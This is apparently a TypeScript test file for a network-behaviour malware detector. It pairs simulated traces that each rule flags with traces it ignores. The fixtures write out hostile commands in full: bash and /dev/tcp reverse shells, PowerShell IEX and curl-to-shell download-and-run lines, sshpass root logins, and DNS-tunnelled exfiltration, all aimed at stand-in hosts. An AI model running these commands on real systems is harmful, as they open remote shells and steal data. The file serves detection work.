import { testFamily } from '../../../../test/trace/detector-table.ts'
import { environment, file, gets, runs, sets, system } from '../../../../test/trace/empty-trace.ts'
import { traceFamily } from '../family.ts'
import * as networkRegistry from './registry.ts'

const INTERNET = 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings'
const lookUps = (...names: readonly string[]) => ({ network: names.map((name) => ({ kind: 'dns', name }) as const) })

const said = (start: string, port = 4444, host = 'x.example') => ({
  network: [{ kind: 'tcp' as const, host, port, bytesSent: start.length, start }],
})
const spoken = (kind: 'udp' | 'tls', start: string, port: number) => ({
  network: [{ kind, host: 'x.example', port, bytesSent: start.length, start }],
})
const knocks = (port: number, count: number) => ({
  network: Array.from({ length: count }, (_, index) => ({ kind: 'tcp' as const, host: `203.0.113.${index}`, port })),
})
const carrying = (count: number) =>
  lookUps(...Array.from({ length: count }, (_, index) => `${'mzxw6ytboi4dcnbz'.repeat(3)}${index}.t.x.example`))
const txtOf = (name: string) => ({ network: [{ kind: 'dns', type: 'TXT', name } as const] })
const texts = (name: (at: number) => string) => ({
  network: Array.from({ length: 8 }, (_, at) => ({ kind: 'dns' as const, type: 'TXT', name: name(at) })),
})
const dials = (port: number, gapMs: number, kind: 'tcp' | 'tls' = 'tcp', host = 'x.example') =>
  [0, 1, 2, 3, 4].map((turn) => ({ network: [{ kind, host, port, atMs: turn * gapMs, succeeded: true }] }))
const calls = (url: string, gapMs: number) => [0, 1, 2, 3, 4].map((turn) => gets(url, { atMs: turn * gapMs }))

const asksForPeople = system({ kind: 'question', about: 'mail_accounts', what: 'Outlook.AddressEntries' })
const mails = { network: [{ kind: 'smtp' as const, host: 'mail.example', to: ['tom@x.example'] }] }

testFamily(traceFamily(networkRegistry, 'network'), {
  trace_mails_itself_around: {
    hits: { 'to people out of the address book': [asksForPeople, mails] },
    misses: { 'a report': [mails], 'only looked at': [asksForPeople] },
  },
  trace_moves_to_other_machines: {
    hits: {
      'keys that it found': [
        runs('ssh -oStrictHostKeyChecking=no -oBatchMode=yes root@10.0.2.20 curl http://x.example/a'),
      ],
      'a password': [runs('sshpass -p admin ssh root@10.0.2.20 id')],
    },
    misses: { 'a login': [runs('ssh anna@db01')], 'a copy': [runs('scp a.txt anna@db01:')] },
  },
  trace_calls_home: {
    hits: {
      'once a minute': calls('http://x.example/gate?n=1', 60_000),
      'a bare connection, on which it waits for a word': dials(4444, 30_000),
      'within TLS that carries no web': dials(443, 60_000, 'tls'),
    },
    misses: {
      'connections at once': dials(4444, 50),
      'its own machine': dials(4444, 30_000, 'tcp', '127.0.0.1'),
      'each time another place': [1, 2, 3, 4, 5].flatMap((at) => dials(4000 + at, 0).slice(0, 1)),
      'at once': calls('http://x.example/gate', 100),
      'parts of a page': [0, 1, 2, 3].map((turn) =>
        gets('http://x.example/a.js', { atMs: turn * 9_000, via: 'resource' }),
      ),
    },
  },
  trace_obeys_chat_room: {
    hits: { 'a room': [said('NICK bot1\nUSER a 8 * :b\nJOIN #x\n', 6667)] },
    misses: {
      'a shop': [said('{"nick":"USER"}', 6667)],
      'a login to fetch files': [said('USER anna\nPASS x\nTYPE I\nPASV', 21)],
    },
  },
  trace_scans_network: {
    hits: { 'remote logins': [knocks(23, 30)] },
    misses: { 'three servers': [knocks(22, 3)], sites: [knocks(443, 60)] },
  },
  trace_speaks_own_protocol: {
    hits: {
      'a port of its own': [said('\\x00\\x01', 48101)],
      'bytes on the port of the web': [said('\\x00\\x00\\x00\\x10hello', 80)],
      'words on the port of the web over TLS': [said('id=web01|root|linux\n', 443)],
      'no question to a server of names': [said('beacon 1', 53)],
      'datagrams that ask for no name': [spoken('udp', 'checkin;web01', 53)],
      'within TLS, and no web': [spoken('tls', '\\x01\\x02\\x03', 443)],
      'on the port of remote logins': [said('\\xde\\xad\\xbe\\xef', 22)],
      'on the port of mail': [said('\\x7f\\x00\\x01', 25)],
      'on the port of shares': [said('PING\n', 445)],
    },
    misses: {
      'the start of a handshake': [said('\\x16\\x03\\x01\\x02\\x00', 443)],
      'half a request': [said('GET / HTTP/1.1\\x0d\nHost: x', 8080), said('PROPFIND /a HTTP/1.1', 80)],
      'the newer web': [said('PRI * HTTP/2.0\\x0d\n', 80)],
      'a login elsewhere': [said('SSH-2.0-OpenSSH_9.2', 22)],
      'a name asked over a connection': [said('\\x00\\x1d\\xab\\xcd\\x01\\x00\\x00\\x01\\x00\\x00', 53)],
      'a share': [said('\\x00\\x00\\x00EÿSMBr', 445)],
      'a mailbox': [said('a1 LOGIN jo x', 143), said('USER jo\\x0d\n', 110)],
      'a queue': [said('AMQP\\x00\\x00\\x09\\x01', 5672)],
      'a clock': [spoken('udp', '\\x23\\x00', 123)],
      'a database': [said('\\x00', 5432)],
      'nothing said': [{ network: [{ kind: 'tcp', host: 'x.example', port: 48101 }] }],
      'its own machine': [said('x', 48101, '127.0.0.1')],
    },
  },
  trace_tunnels_through_names: {
    hits: {
      'long names below one': [carrying(8)],
      'texts of names that were made': [texts((at) => `4c9fc2f89e5def89${at}.a.x.example`)],
      'who asks, in the letters of base32': [
        environment({ user: 'anna', host: 'WS-014' }),
        lookUps('mfxg4ykak5js2mbrgq.0.q.x.example', 'mfxg4ykak5js2mbrgq.1.q.x.example'),
      ],
      'a text in digits': [
        lookUps(
          ...[0, 1, 2, 3, 4, 5].map(
            (at) => `${Buffer.from(`root:x:0:${at}:/root:/bin/sh`).toString('hex')}.${at}.x.example`,
          ),
        ),
      ],
      'an order that came as a text': [txtOf('a.x.example'), runs('sh -c "whoami af0be312"')],
    },
    misses: {
      'a text that is told of': [txtOf('a.x.example'), runs('logger "the text is whoami af0be312"')],
      'the word of another name': [txtOf('b.x.example'), runs('whoami af0be312')],
      'an address of that name': [lookUps('a.x.example'), runs('whoami af0be312')],
      'one long name': [carrying(1)],
      'hashes that are asked about': [
        environment({ user: 'anna', host: 'WS-014' }),
        lookUps('9f86d081884c7d659a2feaa0c55ad015.h.x.example', '60303ae22b998861bce3b28f33eec1be.h.x.example'),
      ],
      'proofs for a certificate': [texts((at) => `_acme-challenge.www${at}.x.example`)],
      'short names': [
        lookUps('a.x.example', 'b.x.example', 'c.x.example', 'd.x.example', 'e.x.example', 'f.x.example'),
      ],
    },
  },
  trace_downloads_and_runs: {
    hits: {
      'saved and started': [
        gets('http://x.example/p'),
        file('write', 'C:\\Users\\u\\AppData\\Local\\Temp\\upd.exe'),
        runs('C:\\Users\\u\\AppData\\Local\\Temp\\upd.exe'),
      ],
      'in one command': [runs("powershell IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')")],
      'piped into a shell': [runs('sh -c curl -fsSL http://x.example/a | sh')],
    },
    misses: {
      'fetched and shown': [gets('http://x.example/p'), runs('notepad.exe')],
      'written and started without a fetch': [file('write', 'C:\\t\\upd.exe'), runs('C:\\t\\upd.exe')],
      'a list that a program of its own reads': [runs('sh -c curl -s http://x.example/list | ./parse.pl')],
      'a fetch into a file': [runs('curl -o /tmp/a.tar.gz https://x.example/a.tar.gz')],
    },
  },
  trace_fetches_further_stage: {
    hits: { 'by a script': [gets('http://x.example/p')] },
    misses: {
      'a picture of a page': [gets('https://x.example/a.png', { via: 'resource' })],
      'a machine asks its cloud for its own name': [gets('http://169.254.169.254/latest/meta-data/instance-id')],
      'whether its own site answers': [gets('http://127.0.0.1:8080/health')],
      'a form': [gets('https://x.example/', { via: 'form' })],
    },
  },
  trace_sends_data_out: {
    hits: {
      posted: [
        gets('http://x.example/g', { method: 'POST', bodyBytes: 200 }),
        system({ kind: 'question', about: 'user', what: '%USERNAME%' }),
      ],
      'laid on a server of files': [said('USER logs\nPASS x\nTYPE I\nSTOR kl.dat', 21)],
    },
    misses: {
      'files are fetched from a server of files': [said('USER anna\nPASS x\nTYPE I\nPASV\nRETR a.txt', 21)],
      'nothing in it': [gets('http://x.example/g', { method: 'POST', bodyBytes: 0 })],
      fetched: [gets('http://x.example/g')],
    },
  },
  trace_talks_to_throwaway_host: {
    attack: ['T1071.001'],
    hits: {
      'a bare address': [gets('http://203.0.113.9/a')],
      'a free name': [lookUps('abc.duckdns.org')],
      'a chat service': [gets('https://api.telegram.org/bot1/send')],
    },
    misses: {
      'a company': [gets('https://www.example.com/a')],
      'an address at home': [gets('http://192.168.1.4/a')],
      'a name that only contains it': [lookUps('notduckdns.org.example.com')],
    },
  },
  trace_opens_reverse_shell: {
    hits: {
      'bash over tcp': [runs('bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')],
      'a connection whose lines are run': [
        runs('exec 5<>/dev/tcp/203.0.113.9/4444', { pid: 10 }),
        runs('while read line; do $line 2>&5 >&5; done <&5', { pid: 11 }),
      ],
      'the shell of a login, behind a terminal of its own': [
        { network: [{ kind: 'tcp', host: '203.0.113.9', port: 4782, pid: 100 }] },
        runs('-sh', { pid: 102, parentPid: 100 }),
      ],
      'a shell after a connection': [
        { network: [{ kind: 'tcp', host: '203.0.113.9', port: 4444, pid: 100 }] },
        runs('/bin/sh -i', { pid: 101, parentPid: 100 }),
      ],
      'a shell in the place of who listened': [
        { network: [{ kind: 'listen', host: '0.0.0.0', port: 31337, pid: 100 }] },
        runs('sh', { pid: 100 }),
      ],
    },
    misses: {
      'a terminal for the browser': [
        { network: [{ kind: 'listen', host: '0.0.0.0', port: 7681, pid: 100 }] },
        runs('bash', { pid: 101, parentPid: 100 }),
      ],
      'a shell with a script': [
        { network: [{ kind: 'tcp', host: '203.0.113.9', port: 80, pid: 100 }] },
        runs('/bin/sh -c ls', { parentPid: 100 }),
      ],
      'a port is looked at': [runs('nc -z host 22')],
      'a connection is opened and nothing passes': [runs('exec 3<>/dev/tcp/db/5432')],
      'a port is tried': [runs('timeout 1 bash -c </dev/tcp/db/5432')],
    },
  },
  trace_diverts_browsing: {
    attack: ['T1557', 'T1176'],
    hits: {
      'a proxy and an extension': [
        sets(INTERNET, 'ProxyServer', '127.0.0.1:8877'),
        sets(
          'HKLM\\SOFTWARE\\Policies\\Google\\Chrome\\ExtensionInstallForcelist',
          '1',
          'abcd;http://ext.example/u.xml',
        ),
      ],
    },
    misses: {
      'a proxy of a company': [sets(INTERNET, 'ProxyServer', 'proxy.company.example:3128')],
      'a proxy is taken away': [sets(INTERNET, 'ProxyServer', ''), runs('certutil -addstore root ca.crt')],
    },
  },
  trace_listens: {
    hits: { 'on every address': [{ network: [{ kind: 'listen', host: '0.0.0.0', port: 4444 }] }] },
    misses: { 'for itself': [{ network: [{ kind: 'listen', host: '127.0.0.1', port: 4444 }] }], nothing: [] },
  },
  trace_tries_many_domains: {
    hits: {
      generated: [
        lookUps(
          ...[
            'xkqzvbnrtwp',
            'qwrtzplkjhg',
            'bvcxzlkjhgf',
            'mnbvcxzrtpl',
            'zxcvbnmkjhg',
            'plkjhgfdsxq',
            'wrtypsdfghj',
            'hjklzxcvbnm',
          ].map((one) => `${one}.com`),
        ),
      ],
    },
    misses: {
      few: [lookUps('xkqzvbnrtwp.com')],
      words: [
        lookUps(
          ...[
            'microsoftonline',
            'googleanalytics',
            'stackoverflow',
            'amazoncloudfront',
            'officeservices',
            'facebookbusiness',
            'accountmanager',
            'updateservice',
          ].map((one) => `${one}.com`),
        ),
      ],
    },
  },
  trace_sends_mail: {
    hits: { smtp: [{ network: [{ kind: 'smtp', host: 'mail.example', to: ['a@example.com'] }] }] },
    misses: { web: [gets('https://mail.example/')], nothing: [] },
  },
})
